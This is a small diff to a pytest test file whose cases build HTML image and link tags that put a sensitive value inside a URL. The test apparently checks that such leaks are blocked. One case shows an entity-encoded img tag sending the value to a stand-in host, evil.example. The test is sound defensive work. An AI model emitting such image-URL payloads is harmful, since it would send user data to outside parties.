@@ -204,9 +204,7 @@ def test_a_restored_value_in_an_address_blocks(parts: list[Piece | str], is_stri
         pytest.param(['<img src="/x?', JAN, '">'], id="attribute"),
         pytest.param(["<img src='>", JAN, "'>"], id="quoted bracket"),
         pytest.param(["<a\nhref=/", JAN, ">"], id="no quotes"),
-        pytest.param(
-            ["<div><img src=&#47;&#47;evil.example/?q=<", JAN, ">"], id="bracket in a tag"
-        ),
+        pytest.param(["<div><img src=&#47;&#47;e.example/?<", JAN, ">"], id="bracket in a tag"),
         pytest.param(["<div>\n```\n<img src=&#47;x", JAN, ">"], id="a fence in HTML is none"),
     ],
 )
